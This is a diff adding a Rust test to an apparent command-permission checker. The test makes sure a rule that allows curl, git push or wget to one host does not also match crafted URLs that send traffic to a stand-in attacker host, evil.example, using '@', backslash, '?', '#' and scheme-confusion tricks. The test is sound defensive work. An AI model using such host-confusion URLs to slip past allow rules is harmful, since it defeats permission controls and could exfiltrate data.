@@ -73,6 +73,33 @@ fn a_saved_rule_sends_to_no_address_of_an_option_and_no_list_of_files() {
 }
 
 #[test]
+fn an_address_that_programs_read_differently_is_of_no_host_of_a_rule() {
+    check(
+        "curl -s https://a.example/x",
+        &["curl -s https://a.example/y", "curl -s a.example", "curl -s 'https://a.example/?u=x@y'"],
+        &[
+            r"curl -s 'https://a.example\@evil.example/'",
+            r"curl -s 'https://evil.example\@a.example/'",
+            "curl -s 'evil.example/x://a.example/'",
+            "curl -s 'evil.example?://a.example/'",
+            "curl -s 'evil.example#://a.example/'",
+            "curl -s 'evil.example?@a.example'",
+            "curl -s 'a.example:x@evil.example/'",
+        ],
+    );
+    check(
+        "git push a.example:x main",
+        &["git push git@a.example:x main", "git push a.example:y main"],
+        &["git push 'evil.example?@a.example:x' main", "git push 'evil.example:x://a.example/' main"],
+    );
+    check(
+        "wget https://a.example/x",
+        &["wget https://a.example/y"],
+        &["wget 'ftp://evil.example;@a.example/x'", "wget 'evil.example:x://a.example'"],
+    );
+}
+
+#[test]
 fn no_words_cover_what_a_text_of_a_program_may_do() {
     for (given, more) in [
         ("uudecode a.uu", "uudecode b.uu"),
